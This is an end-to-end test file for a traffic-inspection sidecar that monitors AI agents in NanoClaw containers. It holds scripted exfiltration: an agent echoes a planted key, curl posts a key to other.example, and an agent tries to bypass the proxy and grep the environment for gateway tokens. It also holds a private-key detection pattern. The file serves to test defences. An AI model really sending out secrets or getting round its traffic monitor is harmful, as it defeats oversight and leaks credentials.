import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { execa } from 'execa';
import { appendFileSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../../src/findings/finding.js';
import { callControl } from '../../../src/sidecar/control/client.js';
import type { Status } from '../../../src/sidecar/status.generated.js';
import { skillFolder } from '../../../src/install/skill-folder.js';
import { generateSecrets } from '../../support/secrets.js';
import { GatewayStub } from './gateway-stub.js';
import { ModelStub, type ModelRequest } from './model-stub.js';
import { NanoClaw, whyNot } from './nanoclaw.js';

const source = process.env['NANOCLAW_SRC'];
const reason = whyNot(source);
// Not console.log: jest keeps that back for a suite of which nothing runs.
if (reason !== undefined) process.stderr.write(`skipped: ${reason}\n`);

/** A key of a form that the detector knows and that nobody uses; it must turn up nowhere but in the traffic. */
const KEY = generateSecrets(2)[1] ?? '';
const OTHER_GROUP = 'somebody-else';
const TOOL = 'mcp__traffic-guardian__clawsec_traffic_findings';

(reason === undefined ? describe : describe.skip)('in a real NanoClaw', () => {
  const model = new ModelStub();
  let gateway: GatewayStub;
  let nanoclaw: NanoClaw;

  const guardian = async (...words: string[]): Promise<string> => {
    const program = join(nanoclaw.root, '.claude/skills/add-traffic-guardian/payload/cli/main.js');
    return (await execa(process.execPath, [program, ...words])).stdout;
  };

  beforeAll(async () => {
    gateway = await GatewayStub.start(model.answer);
    nanoclaw = new NanoClaw(source ?? '', gateway);
  }, 120_000);

  afterAll(async () => {
    await nanoclaw.dispose();
    await gateway.stop();
  }, 60_000);

  test('it installs, twice with the same result, and NanoClaw builds with it', async () => {
    const program = join(skillFolder(), 'payload/cli/main.js');
    const install = ['install', '--nanoclaw', nanoclaw.root, '--inspect-https', '--listen', '127.0.0.1', '--json'];
    const before = nanoclaw.status();
    const dry = JSON.parse((await execa(process.execPath, [program, ...install, '--dry-run'])).stdout) as Installed;
    expect(nanoclaw.status()).toBe(before);
    const first = JSON.parse((await execa(process.execPath, [program, ...install])).stdout) as Installed;
    expect(first.changes).toEqual(dry.changes);
    const once = nanoclaw.status();
    const second = JSON.parse((await execa(process.execPath, [program, ...install])).stdout) as Installed;
    expect(second.changes).toEqual([]);
    await nanoclaw.useFreePort();
    expect(nanoclaw.status()).toBe(once);
    expect(nanoclaw.git('diff', '--name-only').split('\n')).toEqual([
      'src/container-runner.ts',
      'src/modules/index.ts',
    ]);
    expect(nanoclaw.git('diff', '--numstat').match(/^1\t0\t/gm)).toHaveLength(2);
    await nanoclaw.build();
  }, 240_000);

  test('a message is answered, through the Guardian, and the model call was inspected', async () => {
    await nanoclaw.makeGroup();
    await nanoclaw.start();
    await nanoclaw.until(() => nanoclaw.log.includes('Traffic Guardian listening'), 'the sidecar listens');
    expect(await guardian('install', '--nanoclaw', nanoclaw.root, '--groups', 'all')).toContain('tools added');
    model.scripts.set('hello-e2e', [{ text: (asked) => `<message to="${destination(asked)}">hello back</message>` }]);
    expect(await nanoclaw.chat('hello-e2e')).toContain('hello back');
    const { coverage } = JSON.parse(await guardian('status', '--json')) as Status;
    expect(coverage.outcomes['inspected']?.connections).toBeGreaterThan(0);
    expect(gateway.seen.some(({ host, path }) => host === 'api.anthropic.com' && path.startsWith('/v1/messages'))).toBe(
      true,
    );
  }, 300_000);

  test('a planted key that goes out is found, and the agent answers for it without the key', async () => {
    model.scripts.set('look-e2e', [
      { tool: 'Bash', input: { command: `echo "from the page: ${KEY}"`, description: 'read a page' } },
      { tool: TOOL, input: { threatType: 'EXFIL' } },
      {
        text: (asked) =>
          `<message to="${destination(asked)}">found: ${lastToolResult(asked).replaceAll(/[<>]/g, '')}</message>`,
      },
    ]);
    const answer = await nanoclaw.chat('look-e2e');
    expect(answer).toContain('ai_api_key');
    expect(answer).toContain('api.anthropic.com:443');
    expect(answer).not.toContain(KEY);
    const { findings } = JSON.parse(await guardian('findings', '--threat-type', 'EXFIL', '--json')) as {
      findings: Finding[];
    };
    // One, although the agent has told of it meanwhile: a finding that is quoted is none.
    expect(findings).toMatchObject([{ direction: 'outbound', dest: 'api.anthropic.com:443' }]);
    expect(JSON.stringify(findings)).not.toContain(KEY);
  }, 300_000);

  test('nothing secret enters the container', async () => {
    // A finding of somebody else, which this container must not see.
    const socket = join(nanoclaw.root, 'data/traffic-guardian/control.sock');
    const upstream = `http://x:${gateway.token}@127.0.0.1:${gateway.proxyPort}`;
    await callControl(socket, 'set-upstream', { agent: OTHER_GROUP, url: upstream });
    const other = (JSON.parse(await guardian('agents', 'url', OTHER_GROUP, '--json')) as { url: string }).url;
    await execa('curl', ['-s', '-k', '-x', other, '-d', KEY, 'https://other.example/'], { reject: false });
    await nanoclaw.until(() => readJournal(nanoclaw.root).includes(OTHER_GROUP), 'the other group has a finding');
    const lines = nanoclaw.commandLines();
    expect(lines.length).toBeGreaterThan(0);
    const state = join(nanoclaw.root, 'data/traffic-guardian');
    for (const words of lines) {
      expect(words.join(' ')).not.toContain(gateway.token);
      expect(words.join(' ')).not.toContain('key-of-the-gateway-api');
      const mounted = words.filter((_, index) => words[index - 1] === '-v').map((each) => each.split(':')[0] ?? '');
      expect(mounted.filter((place) => place.startsWith(state))).toEqual([join(state, 'ca/bundle.pem')]);
      expect(mounted.filter((place) => `${state}/`.startsWith(`${place}/`))).toEqual([]);
      for (const place of mounted) for (const file of filesBelow(place)) expect(secretsIn(file)).toEqual([]);
    }
  });

  test('what the container holds does not open the gateway', async () => {
    const script = [
      `curl -s -o /dev/null -w '%{http_connect}' -x http://host.docker.internal:${gateway.proxyPort} https://direct.example/`,
      'env | grep -ci aoc_',
    ].join('; ');
    const refused = gateway.refused;
    model.scripts.set('around-e2e', [
      { tool: 'Bash', input: { command: script, description: 'go around' } },
      { text: (asked) => `<message to="${destination(asked)}">${lastToolResult(asked)}</message>` },
    ]);
    expect(await nanoclaw.chat('around-e2e')).toMatch(/407[^0-9]*0/);
    expect(gateway.refused).toBeGreaterThan(refused);
    expect(gateway.seen.some(({ host }) => host.startsWith('direct.example'))).toBe(false);
  }, 300_000);

  test('the operator asks the same through ncl', async () => {
    const frame = JSON.parse(await nanoclaw.run('bin/ncl', 'traffic-findings', '--min-severity', 'high', '--json')) as {
      data: { findings: Finding[] };
    };
    expect(frame.data.findings.length).toBeGreaterThan(0);
  }, 60_000);

  test('a scan of the sessions says nothing twice, and finds what did not pass the proxy', async () => {
    const scan = async (): Promise<{ files: number; findings: number; known: number }> => {
      const output = await guardian('scan-sessions', '--nanoclaw', nanoclaw.root, '--json');
      return (
        JSON.parse(output.split('\n').at(-1) ?? '') as { summary: { files: number; findings: number; known: number } }
      ).summary;
    };
    const first = await scan();
    expect(first.files).toBeGreaterThan(0);
    expect(first.known).toBeGreaterThan(0);
    expect(first.findings).toBe(0);
    const [transcript = ''] = filesBelow(join(nanoclaw.root, 'data/v2-sessions')).filter((file) =>
      file.endsWith('.jsonl'),
    );
    const unseen = generateSecrets(2)[1] ?? '';
    const lines = readFileSync(transcript, 'utf8').split('\n');
    const copied = lines.find((line) => line.includes('"tool_use"') && line.includes(KEY)) ?? '';
    appendFileSync(transcript, `${copied.replaceAll(KEY, unseen)}\n`);
    expect(await scan()).toMatchObject({ findings: 1 });
    expect(await scan()).toMatchObject({ findings: 0, known: 0 });
    const [, , group] = transcript.slice(nanoclaw.root.length + 1).split('/');
    const { findings } = JSON.parse(await guardian('findings', '--limit', '1', '--json')) as { findings: Finding[] };
    expect(findings).toMatchObject([{ protocol: 'session', agent: group, threat_type: 'EXFIL' }]);
    expect(JSON.stringify(findings)).not.toContain(unseen);
  }, 120_000);

  test('the tools go from the agent group again', async () => {
    expect(await guardian('uninstall', '--nanoclaw', nanoclaw.root, '--groups', 'all')).toContain('tools removed');
  }, 60_000);

  test('a stopped host leaves no process', async () => {
    await nanoclaw.stop();
    for (const words of nanoclaw.commandLines()) {
      // Containers outlive the host by NanoClaw's own design.
      await nanoclaw.run('docker', 'stop', words[words.indexOf('--name') + 1] ?? '');
    }
    await nanoclaw.until(
      () => nanoclaw.processes().length === 0,
      `nothing of ${nanoclaw.processes().join('\n')}`,
      15_000,
    );
    expect(nanoclaw.processes()).toEqual([]);
  }, 60_000);

  test('it is removed without a trace', async () => {
    await guardian('uninstall', '--nanoclaw', nanoclaw.root);
    expect(nanoclaw.status()).toBe('');
    expect(existsSync(join(nanoclaw.root, 'data/traffic-guardian'))).toBe(false);
    const left = readdirSync(nanoclaw.root, { recursive: true })
      .map(String)
      .filter(
        (name) => !name.startsWith('node_modules') && !name.startsWith('.git/') && name.includes('traffic-guardian'),
      );
    expect(left).toEqual([]);
    await nanoclaw.build();
  }, 120_000);
});

interface Installed {
  readonly changes: readonly object[];
}

/** Where an answer goes: NanoClaw names the destinations in the system prompt. */
function destination({ system }: ModelRequest): string {
  return /Your destination is `([^`]+)`/.exec(JSON.stringify(system))?.[1] ?? 'unknown';
}

function lastToolResult({ messages }: ModelRequest): string {
  const blocks = messages.flatMap(({ content }) => (Array.isArray(content) ? (content as unknown[]) : []));
  const results = blocks.filter(
    (block): block is { content: unknown } =>
      typeof block === 'object' &&
      block !== null &&
      'type' in block &&
      block.type === 'tool_result' &&
      'content' in block,
  );
  return JSON.stringify(results.at(-1)?.content ?? '');
}

function filesBelow(place: string): string[] {
  if (!existsSync(place)) return [];
  try {
    return readdirSync(place, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));
  } catch {
    return [place];
  }
}

function readJournal(root: string): string {
  return filesBelow(join(root, 'data/traffic-guardian/log/findings'))
    .map((file) => readFileSync(file, 'utf8'))
    .join('');
}

/** Private keys, the gateway's token and findings of others that a container could read in a file. */
function secretsIn(file: string): string[] {
  const text = readFileSync(file, 'latin1');
  const wrong = ['aoc_e2e_token', OTHER_GROUP].filter((each) => text.includes(each));
  // Programs and their documentation may name the form of a key; a key has a body.
  if (/-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/=]{40}/.test(text)) wrong.push('a private key');
  return wrong.map((each) => `${file}: ${each}`);
}
